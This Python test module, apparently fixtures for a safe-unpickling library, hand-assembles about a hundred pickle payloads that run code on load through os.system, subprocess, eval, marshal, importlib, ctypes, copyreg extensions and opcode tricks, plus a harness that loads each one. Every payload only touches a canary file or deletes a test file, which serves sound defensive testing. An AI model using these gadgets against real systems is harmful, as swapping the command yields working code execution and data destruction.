"""Pickles that run somebody's code when they are loaded, each written by hand in the opcodes that it is known for.

All of them do the same harmless thing: they make a file, the canary, or take one away.
"""

from __future__ import annotations

import pickle
import subprocess
import sys
from collections.abc import Iterator
from marshal import dumps as marshalled
from pathlib import Path
from typing import Any, NamedTuple

PROTO_4 = b"\x80\x04"


class Raw(NamedTuple):
    """Opcodes as they are."""

    code: bytes


class Gadget(NamedTuple):
    """A pickle, and whether this machine's `pickle.loads` runs it."""

    name: str
    data: bytes
    runs: bool = True


def glob(module: str, name: str) -> Raw:
    """The opcode GLOBAL, which every protocol has."""
    return Raw(f"c{module}\n{name}\n".encode())


def stack_global(module: str, name: str) -> Raw:
    """STACK_GLOBAL: the names are ordinary strings on the stack."""
    return Raw(_code(module) + _code(name) + b"\x93")


def call(fn: Raw, *args: Any) -> Raw:
    """REDUCE: call what is on the stack."""
    return Raw(fn.code + _code(args) + b"R")


def method(obj: Raw, name: str, *args: Any) -> Raw:
    return call(call(glob("builtins", "getattr"), obj, name), *args)


def build(obj: Raw, state: Any) -> Raw:
    """BUILD: give an object its state, by its own `__setstate__`."""
    return Raw(obj.code + _code(state) + b"b")


def _code(value: Any) -> bytes:
    match value:
        case Raw():
            return value.code
        case tuple():
            return b"(" + b"".join(map(_code, value)) + b"t"
        case list():
            return b"(" + b"".join(map(_code, value)) + b"l"
        case dict():
            return b"(" + b"".join(_code(key) + _code(item) for key, item in value.items()) + b"d"
        case bytes():
            return b"B" + len(value).to_bytes(4, "little") + value
        case str():
            return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()
        case bool() | None:
            return {True: b"\x88", False: b"\x89", None: b"N"}[value]
        case int():
            return b"I%d\n" % value
    raise TypeError(value)


class _Reduced:
    """Pickles as a call, as any class may ask for."""

    def __init__(self, *call: Any) -> None:
        self._call = call

    def __reduce__(self) -> tuple[Any, ...]:
        return self._call


class Traps:
    """The gadgets of one folder: each with a canary of its own."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        self._modules = folder / "modules"
        self._canaries = folder / "canaries"
        self._victims = [folder / "victim", folder / "victim.txt"]
        for made in (self._modules, self._canaries, self._victims[0]):
            made.mkdir()
        self._victims[1].touch()
        (folder / "touch.py").write_text("open(CANARY, 'w').close()\n")
        self.all = [self._made(number, name, data) for number, (name, data) in enumerate(self._pickles())]

    def _made(self, number: int, name: str, data: bytes) -> Gadget:
        """Give a gadget its own canary, and its own module, in place of those of number 0; their names are as long."""
        (self._modules / f"gadget_{number:03}.py").write_text(f"open({str(self._canary(number))!r}, 'w').close()\n")
        data = data.replace(b"canaries/000", b"canaries/%03d" % number).replace(b"gadget_000", b"gadget_%03d" % number)
        return Gadget(name, data, name not in CANNOT)

    def _canary(self, number: int) -> Path:
        return self._canaries / f"{number:03}"

    def sprung(self) -> list[str]:
        """Return which gadgets ran."""
        found = [gadget.name for number, gadget in enumerate(self.all) if self._canary(number).exists()]
        return found + [REMOVERS[number] for number, victim in enumerate(self._victims) if not victim.exists()]

    def _pickles(self) -> Iterator[tuple[str, bytes]]:
        folder, module, canary = self._folder, self._modules / "gadget_000.py", str(self._canary(0))
        line = f"touch '{canary}'"
        python = f"open({canary!r}, 'w').close()"
        argv = ["touch", canary]
        os_ = call(glob("importlib", "import_module"), "os")
        system = glob("os", "system")
        evaluate = glob("builtins", "eval")
        nodes: dict[str, Raw] = {
            # processes
            "os.system": call(system, line),
            "posix.system": call(glob("posix", "system"), line),
            "os.popen": method(call(glob("os", "popen"), line), "read"),
            "os.spawnvp": call(glob("os", "spawnvp"), 0, "touch", argv),
            "os.posix_spawnp": call(glob("os", "posix_spawnp"), "touch", argv, {}),
            "subprocess.Popen": method(call(glob("subprocess", "Popen"), argv), "wait"),
            "subprocess.call": call(glob("subprocess", "call"), argv),
            "subprocess.run": call(glob("subprocess", "run"), argv),
            "subprocess.check_output": call(glob("subprocess", "check_output"), argv),
            "subprocess.getoutput": call(glob("subprocess", "getoutput"), line),
            "subprocess.getstatusoutput": call(glob("subprocess", "getstatusoutput"), line),
            "commands.getoutput, as Python 2 named it": call(glob("commands", "getoutput"), line),
            "pty.spawn": call(glob("pty", "spawn"), argv),
            "pydoc.pipepager": call(glob("pydoc", "pipepager"), "", line),
            "pydoc.pager by a command": call(glob("pydoc", "tempfilepager"), "", f"{line} #"),
            "webbrowser.open": method(call(glob("webbrowser", "GenericBrowser"), ["touch", "%s"]), "open", canary),
            "multiprocessing.util.spawnv_passfds": call(
                glob("multiprocessing.util", "spawnv_passfds"), b"/usr/bin/touch", [b"touch", canary.encode()], []
            ),
            "multiprocessing.pool.ThreadPool": method(
                call(glob("multiprocessing.pool", "ThreadPool"), 1), "map", evaluate, [python]
            ),
            "multiprocessing.Process": method(
                call(glob("multiprocessing", "Process"), None, evaluate, None, (python,)), "start"
            ),
            "asyncio.subprocess": call(
                glob("asyncio", "run"),
                method(
                    call(glob("asyncio.runners", "Runner")), "run", call(glob("asyncio", "create_subprocess_shell"), line)
                ),
            ),
            # Python that is text
            "builtins.eval": call(evaluate, python),
            "builtins.exec": call(glob("builtins", "exec"), python),
            "__builtin__.eval, as Python 2 named it": call(glob("__builtin__", "eval"), python),
            "builtins.compile": call(glob("builtins", "exec"), call(glob("builtins", "compile"), python, "x", "exec")),
            "builtins.__import__": method(call(glob("builtins", "__import__"), "os"), "system", line),
            "builtins.getattr": call(call(glob("builtins", "getattr"), os_, "system"), line),
            "builtins.map": call(glob("builtins", "list"), call(glob("builtins", "map"), evaluate, [python])),
            "builtins.filter": call(glob("builtins", "tuple"), call(glob("builtins", "filter"), evaluate, [python])),
            "timeit.timeit": call(glob("timeit", "timeit"), python, "pass", glob("time", "perf_counter"), 1),
            "timeit.main": call(glob("timeit", "main"), ["-n", "1", "-r", "1", python]),
            "bdb": method(call(glob("bdb", "Bdb")), "run", python),
            "cProfile.run": call(glob("cProfile", "run"), python),
            "profile.run": call(glob("profile", "run"), python),
            "trace": method(call(glob("trace", "Trace"), 0, 0), "run", python),
            "code.InteractiveInterpreter": method(call(glob("code", "InteractiveInterpreter")), "runsource", python),
            "codeop": call(glob("builtins", "exec"), call(glob("codeop", "compile_command"), python)),
            "doctest": call(glob("doctest", "run_docstring_examples"), f">>> {python}\n", {}),
            "marshal.loads": call(
                glob("builtins", "exec"), call(glob("marshal", "loads"), marshalled(compile(python, "x", "exec")))
            ),
            "types.FunctionType": call(
                call(
                    glob("types", "FunctionType"),
                    call(glob("marshal", "loads"), marshalled(compile(python, "x", "exec"))),
                    {"__builtins__": call(glob("importlib", "import_module"), "builtins")},
                )
            ),
            "types.CodeType.replace": call(
                glob("builtins", "exec"),
                method(call(glob("marshal", "loads"), marshalled(compile(python, "x", "exec"))), "replace"),
            ),
            # what calls something for you
            "operator.attrgetter": call(call(call(glob("operator", "attrgetter"), "system"), os_), line),
            "operator.methodcaller": call(call(glob("operator", "methodcaller"), "system", line), os_),
            "operator.itemgetter": call(
                call(
                    call(glob("operator", "itemgetter"), "eval"),
                    call(glob("builtins", "vars"), call(glob("builtins", "__import__"), "builtins")),
                ),
                python,
            ),
            "operator.call": call(glob("operator", "call"), system, line),
            "functools.partial": call(call(glob("functools", "partial"), system, line)),
            "functools.reduce": call(call(glob("functools", "reduce"), glob("builtins", "getattr"), ["system"], os_), line),
            "itertools.starmap": call(glob("builtins", "list"), call(glob("itertools", "starmap"), evaluate, [(python,)])),
            "concurrent.futures": method(
                method(call(glob("concurrent.futures", "ThreadPoolExecutor"), 1), "submit", evaluate, python), "result"
            ),
            "threading.Thread": method(call(glob("threading", "Thread"), None, evaluate, None, (python,)), "start"),
            "types.SimpleNamespace": method(
                build(call(glob("types", "SimpleNamespace")), {"__setstate__": system}), "__setstate__", line
            ),
            "atexit": call(call(glob("atexit", "register"), system, line), line),
            # modules
            "runpy.run_path": call(glob("runpy", "run_path"), str(folder / "touch.py"), {"CANARY": canary}),
            "importlib.import_module": Raw(
                method(glob("sys", "path"), "insert", 0, str(self._modules)).code
                + b"0"
                + call(glob("importlib", "import_module"), module.stem).code
            ),
            "GLOBAL of a module": Raw(
                method(glob("sys", "path"), "insert", 0, str(self._modules)).code + b"0" + glob(module.stem, "open").code
            ),
            "importlib.machinery": method(
                call(glob("importlib.machinery", "SourceFileLoader"), module.stem, str(module)), "load_module"
            ),
            "pip.main": call(glob("pip._internal", "main"), ["--log", canary, "config", "list"]),
            "werkzeug.utils.import_string": call(call(glob("werkzeug.utils", "import_string"), "os.system"), line),
            "logging.config": call(
                glob("logging.config", "dictConfig"),
                {"version": 1, "handlers": {"x": {"()": "os.system", "command": line}}, "root": {"handlers": ["x"]}},
            ),
            "ctypes": call(call(glob("builtins", "getattr"), call(glob("ctypes", "CDLL"), None), "system"), line.encode()),
            # files
            "builtins.open": call(glob("builtins", "open"), canary, "w"),
            "io.FileIO": call(glob("io", "FileIO"), canary, "w"),
            "os.mkdir": call(glob("os", "mkdir"), canary),
            "os.symlink": call(glob("os", "symlink"), "/", canary),
            "pathlib.Path.touch": Raw(
                PROTO_4 + call(stack_global("pathlib", "Path.touch"), call(glob("pathlib", "Path"), canary)).code
            ),
            "shutil.copyfile": call(glob("shutil", "copyfile"), str(folder / "touch.py"), canary),
            "shutil.rmtree": call(glob("shutil", "rmtree"), str(self._victims[0])),
            "os.unlink": call(glob("os", "unlink"), str(self._victims[1])),
            "logging.FileHandler": call(glob("logging", "FileHandler"), canary),
            "tarfile.open": call(glob("tarfile", "open"), canary, "w"),
            "zipfile.ZipFile": call(glob("zipfile", "ZipFile"), canary, "w"),
            "gzip.open": call(glob("gzip", "open"), canary, "w"),
            # pickles in pickles
            "pickle.loads": call(glob("pickle", "loads"), call(system, line).code + b"."),
            "_pickle.loads": call(glob("_pickle", "loads"), call(system, line).code + b"."),
            "pickle._loads": call(glob("pickle", "_loads"), call(system, line).code + b"."),
            "cloudpickle.loads": call(glob("cloudpickle", "loads"), call(system, line).code + b"."),
            "three pickles deep": call(
                glob("pickle", "loads"),
                call(
                    glob("pickle", "loads"), call(glob("pickle", "loads"), call(system, line).code + b".").code + b"."
                ).code
                + b".",
            ),
            # opcodes
            "INST": Raw(b"(" + _code(line) + b"ios\nsystem\n"),
            "OBJ": Raw(b"(" + glob("subprocess", "Popen").code + _code(argv) + b"o"),
            "NEWOBJ": Raw(glob("pathlib", "Path").code + _code(("x",)) + b"\x81" + b"0" + call(system, line).code),
            "NEWOBJ_EX": Raw(
                PROTO_4
                + glob("fractions", "Fraction").code
                + _code((1,))
                + _code({})
                + b"\x92"
                + b"0"
                + call(system, line).code
            ),
            "STACK_GLOBAL": Raw(PROTO_4 + call(stack_global("os", "system"), line).code),
            "STACK_GLOBAL, dotted": Raw(PROTO_4 + call(stack_global("shutil", "os.system"), line).code),
            "STACK_GLOBAL through our own module": Raw(
                PROTO_4 + call(stack_global("deferlib.deferred", "logging.os.system"), line).code
            ),
            "STACK_GLOBAL of a function's globals": Raw(
                PROTO_4
                + method(
                    call(glob("operator", "getitem"), stack_global("shutil", "copyfile.__globals__"), "os"), "system", line
                ).code
            ),
            "BUILD with __setstate__": build(build(call(glob("types", "SimpleNamespace")), {"__setstate__": system}), line),
            "BUILD of the module's names": Raw(
                build(call(glob("types", "SimpleNamespace")), {"__setstate__": evaluate}).code + _code(python) + b"b"
            ),
            "APPEND": Raw(
                call(glob("types", "SimpleNamespace")).code + _code({"append": system}) + b"b" + _code(line) + b"a"
            ),
            "APPENDS": Raw(
                call(glob("types", "SimpleNamespace")).code + _code({"append": system}) + b"b(" + _code(line) + b"e"
            ),
            "ADDITEMS": Raw(
                PROTO_4
                + call(glob("types", "SimpleNamespace")).code
                + _code({"add": system})
                + b"b("
                + _code(line)
                + b"\x90"
            ),
            "collections.defaultdict": Raw(
                call(glob("collections", "defaultdict"), call(glob("functools", "partial"), system, line)).code
                + b"p7\n0"
                + call(glob("operator", "getitem"), Raw(b"g7\n"), "x").code
            ),
            "EXT1": Raw(
                call(glob("copyreg", "add_extension"), "os", "system", 240).code + b"0" + call(Raw(b"\x82\xf0"), line).code
            ),
            "EXT2": Raw(
                call(glob("copyreg", "add_extension"), "posix", "system", 0x1234).code
                + b"0"
                + call(Raw(b"\x83\x34\x12"), line).code
            ),
            "EXT4": Raw(
                call(glob("copyreg", "add_extension"), "subprocess", "getoutput", 0x123456).code
                + b"0"
                + call(Raw(b"\x84\x56\x34\x12\x00"), line).code
            ),
            "PERSID": Raw(b"Pos\nsystem\n0" + call(system, line).code),
            "BINPERSID": Raw(_code(canary) + b"Q" + call(system, line).code),
            "memo": Raw(system.code + b"p0\n0" + call(Raw(b"g0\n"), line).code),
            "memo, overwritten": Raw(
                glob("builtins", "len").code + b"p0\n0" + system.code + b"p0\n0" + call(Raw(b"g0\n"), line).code
            ),
            "memo with long numbers": Raw(
                system.code + b"r\xff\xff\x00\x00" + b"0" + call(Raw(b"j\xff\xff\x00\x00"), line).code
            ),
            "DUP": Raw(_code(line) + b"0" + system.code + b"2" + _code((line,)) + b"R"),
            "POP_MARK": Raw(b"(" + call(system, line).code + b"1N"),
            "after a harmless start": Raw(_code(["harmless"] * 1_000) + b"0" + call(system, line).code),
            "in a dictionary's key": Raw(b"(" + call(system, line).code + b"Nd"),
            "as an argument": Raw(_code(([call(system, line)], {"key": call(system, line)}))),
        }
        for name, node in nodes.items():
            yield name, node.code + b"."
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
            yield f"__reduce__, protocol {protocol}", pickle.dumps(_Reduced(exec, (python,)), protocol)
            yield (
                f"__reduce__ with a state, protocol {protocol}",
                pickle.dumps(_Reduced(dict, (), None, None, iter([(1, _Reduced(exec, (python,)))])), protocol),
            )


CANNOT = {  # what nothing here loads: a plain unpickler knows no persistent ids
    "PERSID",
    "BINPERSID",
}
REMOVERS = ("shutil.rmtree", "os.unlink")
_PROOF = """
import os, pickle, signal, sys
for line in sys.stdin:
    if os.fork() == 0:
        os.setpgid(0, 0)
        signal.alarm(20)
        null = os.open(os.devnull, os.O_RDWR)
        for number in (0, 1, 2):
            os.dup2(null, number)
        try:
            pickle.loads(bytes.fromhex(line))
        finally:
            sys.exit(0)
    os.wait()
"""


def spring(traps: Traps) -> None:
    """Load every gadget with plain `pickle.loads`, each in a process of its own."""
    lines = "".join(f"{gadget.data.hex()}\n" for gadget in traps.all)
    subprocess.run([sys.executable, "-W", "ignore", "-c", _PROOF], input=lines, text=True, timeout=100, check=True)
